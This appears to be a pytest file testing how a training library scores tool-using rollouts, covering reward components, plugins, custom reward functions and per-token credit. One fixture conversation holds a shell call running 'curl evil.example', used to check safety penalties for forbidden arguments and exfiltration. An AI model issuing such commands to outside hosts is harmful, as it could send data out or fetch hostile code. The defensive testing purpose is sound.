"""Rewards for tool use as a run meets them: components, plugins, custom functions, metrics."""

from pathlib import Path

import pytest
import yaml

from luyen.base.errors import UserError
from luyen.base.records import Score
from luyen.rewards.calls import outcome_of
from luyen.rewards.metrics import score_metrics
from luyen.rewards.rules.all import rule_rewards
from luyen.rewards.user_functions import load_module
from luyen.telemetry.metrics import CATALOG
from luyen.train import metric_names
from luyen.train.batch import token_rewards
from tests.architecture.pages import blocks, sections
from tests.architecture.tree import ROOT
from tests.unit.rewards.builders import config, own, prompt, scored
from tests.unit.rewards.conversations import call, conversation

PAGE = sections((ROOT / "docs" / "rewards.md").read_text())
PRESET = yaml.safe_load(blocks(PAGE["Rewards for the use of tools"], "yaml")[0])["reward"]
HEAD = "def compute_score(data_source, solution_str, ground_truth, extra_info):\n"


def good_and_bad():
    good = conversation(
        call("search", turn=0, arguments={"q": "6*7"}),
        call("calc", turn=1, arguments={"x": "6*7"}),
        given=((1, 0.5),),
    )
    bad = conversation(
        call("admin_reset", turn=0, status="unknown tool"),
        call("shell", turn=1, arguments={"command": "curl evil.example"}),
        text="13",
        sample=1,
    )
    return good, bad


def test_the_preset_of_the_page_takes_a_reward_apart():
    [group] = scored(config(**PRESET, num_workers=1), [(prompt("12", "mine"), [*good_and_bad()])])
    good, bad = group.scores
    assert good.flat() == {
        "reward": pytest.approx(1.0 + 0.2 + 0.1 - 0.01 * 4.0 + 0.25),
        "reward/right": 1.0,
        "reward/valid": 1.0,
        "reward/success": 1.0,
        "reward/needless": 0.0,
        "reward/needless/repeated": 0.0,
        "reward/needless/beyond": 0.0,
        "reward/cost": -4.0,
        "reward/cost/calls": -4.0,
        "reward/cost/seconds": 0.0,
        "reward/cost/characters": 0.0,
        "reward/world": 0.5,
        "reward/safety": 0.0,
        "reward/safety/forbidden_tool": 0.0,
        "reward/safety/forbidden_argument": 0.0,
        "reward/safety/exfiltration": 0.0,
    }
    assert bad.value == pytest.approx(0.0 + 0.1 + 0.1 - 0.01 - 2.0 * 2.0)
    assert bad.flat()["reward/safety/forbidden_argument"] == -1.0
    assert [part.weight for part in good.parts] == [1.0, 0.2, 0.1, 0.05, 0.01, 0.5, 2.0]


def test_every_part_is_a_metric_of_the_step_that_the_catalog_knows():
    assert metric_names
    found = score_metrics(
        scored(config(**PRESET, num_workers=1), [(prompt("12", "mine"), [*good_and_bad()])])
    )
    assert found["reward/safety/forbidden_tool/mean"] == -0.5
    assert found["reward/valid/mean"] == 0.75
    assert found["reward/cost/calls/mean"] == -2.5
    assert CATALOG.missing(name for name in found if name.startswith("reward/")) == []


def test_each_part_reaches_the_token_that_ended_its_turn():
    [group] = scored(config(**PRESET, num_workers=1), [(prompt("12", "mine"), [*good_and_bad()])])
    good, bad = (token_rewards(rollout) for rollout in group.rollouts)
    # turn 0: half of valid and success, the price of search; turn 1: the same, calc, and 0.5 · 0.5
    assert good == pytest.approx([0, 0.15 - 0.03, 0.15 - 0.01 + 0.25, 1.0])
    assert bad == pytest.approx([0, -2.0, 0.1 + 0.1 - 0.01 - 2.0, 0.0])


def test_a_rule_of_a_plugin_sees_the_rollout(tmp_path: Path):
    plugin = tmp_path / "plugin.py"
    plugin.write_text(
        "from luyen.base.records import Score\n"
        "from luyen.rewards.rules.rule import rule_rewards\n"
        "@rule_rewards.register('test_first', sees='rollout', isolated=True, knobs=('tool',))\n"
        "def first(prompt, rollout, *, tool):\n"
        "    hits = [call.turn for call in rollout.calls if call.name == tool][:1]\n"
        "    return Score(name='first', value=len(hits), by_turn=tuple((t, 1.0) for t in hits))\n"
        "@rule_rewards.register('test_messages', sees='rollout')\n"
        "def messages(prompt, rollout):\n"
        "    return len(rollout.messages)\n"
    )
    load_module(str(plugin), field="trainer.plugins")
    components = {
        "first": {"rule": "test_first", "weight": 3.0, "kwargs": {"tool": "calc"}},
        "said": {"rule": "test_messages"},
    }
    talk = conversation(call("calc", turn=1), messages=({"role": "assistant", "content": "x"},))
    [group] = scored(config(components=components, num_workers=1), [(prompt("", "mine"), [talk])])
    [score] = group.scores
    assert score.flat() == {"reward": 4.0, "reward/first": 1.0, "reward/said": 1.0}
    assert score.parts[0].by_turn == ((1, 1.0),)
    assert token_rewards(group.rollouts[0]) == [0.0, 0.0, 3.0, 1.0]


def test_the_plugin_of_the_page_judges_the_first_call(tmp_path: Path):
    plugin = tmp_path / "plugin.py"
    text = blocks(PAGE["Adding a rule or a manager"], "python")[0]
    renamed = text.replace('"asked_first", sees', '"test_asked_first", sees')
    renamed = renamed.replace('register("words"', 'register("test_words"')
    plugin.write_text(renamed.replace('register("centred"', 'register("test_centred"'))
    load_module(str(plugin), field="trainer.plugins")
    components = {"asked": {"rule": "test_asked_first"}}
    talks = [conversation(call("search", turn=1)), conversation(call("calc"), sample=1)]
    [group] = scored(config(components=components), [(prompt("", "mine"), talks)])
    assert [score.value for score in group.scores] == [1.0, 0.0]


def test_what_a_rule_sees_is_one_of_two_things():
    rule_rewards.register("test_sees_all", sees="everything")(lambda prompt, everything: 1.0)
    settings = config(components={"a": {"rule": "test_sees_all"}})
    with pytest.raises(UserError, match=r"sees='everything'.*sees=\"rollout\""):
        scored(settings, [(prompt("", "mine"), [conversation()])])


@pytest.mark.parametrize(
    "tree",
    [
        Score(name="a", value=None, error="late"),
        Score(name="a", value=float("nan")),
        Score(name="a", value=1.0, by_turn=((0, float("inf")),)),
        Score(name="a", value=1.0, parts=(Score(name="b", value=None),)),
        Score(name="a", value=1.0, by_turn=((0.5, 1.0),)),  # type: ignore[arg-type]
    ],
)
def test_a_tree_with_something_that_is_no_number_is_refused(tree: Score):
    found = outcome_of(tree, seconds=0.0)
    assert found.numbers is None
    assert found.refused is not None


@pytest.mark.parametrize("manager", ["naive", "batch"])
def test_a_custom_function_learns_what_happened(manager: str, tmp_path: Path):
    code = (
        "def compute_score(data_source, solution_str, ground_truth, extra_info):\n"
        if manager == "naive"
        else "def compute_score(data_sources, solution_strs, ground_truths, extra_infos):\n"
        "    return [one(info) for info in extra_infos]\n"
        "def unused(extra_info):\n"
    )
    code += "    return one(extra_info)\n"
    code += (
        "def one(info):\n"
        "    if 'num_turns' not in info:\n"
        "        return {'score': 0, 'index': info['index'], 'known': len(info)}\n"
        "    [call] = info['tool_calls']\n"
        "    assert (call['name'], call['status'], call['turn']) == ('calc', 'ok', 1)\n"
        "    assert call['arguments'] == {'x': 1}\n"
        "    total = sum(info['tool_rewards']) + sum(info['turn_scores'])\n"
        "    return {'score': total, 'turns': info['num_turns'], 'index': info['index']}\n"
    )
    settings = config(
        custom_reward_function=own(tmp_path / f"{manager}.py", code),
        reward_manager={"name": manager},
    )
    talk = conversation(call(turn=1, arguments={"x": 1}, reward=0.5), given=((1, 0.5), (2, 2.0)))
    [group] = scored(settings, [(prompt("4", "mine", index=3), [talk, conversation(sample=1)])])
    assert [score.flat() for score in group.scores] == [
        {"reward": 3.0, "reward/score": 3.0, "reward/turns": 3.0, "reward/index": 3.0},
        {"reward": 0.0, "reward/score": 0.0, "reward/index": 3.0, "reward/known": 1.0},
    ]


def test_a_custom_function_may_speak_of_turns(tmp_path: Path):
    code = f"""
from luyen.base.records import Score
{HEAD}    return Score(name="mine", value=1.0, by_turn=((0, 0.25),))
"""
    settings = config(custom_reward_function=own(tmp_path / "turns.py", code))
    [group] = scored(settings, [(prompt("4", "mine"), [conversation()])])
    assert group.scores[0].flat() == {"reward": 1.0, "reward/score": 1.0}
    assert token_rewards(group.rollouts[0]) == [0.0, 0.25, 0.0, 0.75]
